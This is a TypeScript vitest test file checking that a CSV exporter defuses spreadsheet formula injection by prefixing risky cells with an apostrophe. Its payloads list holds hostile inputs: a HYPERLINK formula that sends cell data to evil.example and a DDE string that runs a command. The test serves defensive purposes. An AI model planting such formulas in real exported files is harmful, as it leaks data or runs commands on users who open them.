import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

/** The cells of a CSV text as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes, CRLF rows). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    const row = rows[rows.length - 1]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      cell = '';
      rows.push([]);
      i++;
    } else {
      cell += char;
    }
  }
  return rows.slice(0, -1);
}

const payloads = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

describe('toCsv', () => {
  const columns = [
    { header: 'title', value: (row: { title: string; change: number }) => row.title },
    { header: 'change', value: (row: { title: string; change: number }) => row.change },
  ];

  it.each(payloads)('opens %j as text, not a formula', (title) => {
    const [header, cells] = readCsv(toCsv([{ title, change: 1 }], columns));
    expect(header).toEqual(['title', 'change']);
    expect(cells![0]).toBe(`'${title}`);
  });

  it('leaves ordinary text and negative numbers as they are', () => {
    const text = toCsv(
      [
        { title: 'Phone, 128 GB "new"', change: -5 },
        { title: 'a=b @ c', change: 0 },
      ],
      columns,
    );
    expect(readCsv(text)).toEqual([
      ['title', 'change'],
      ['Phone, 128 GB "new"', '-5'],
      ['a=b @ c', '0'],
    ]);
  });
});
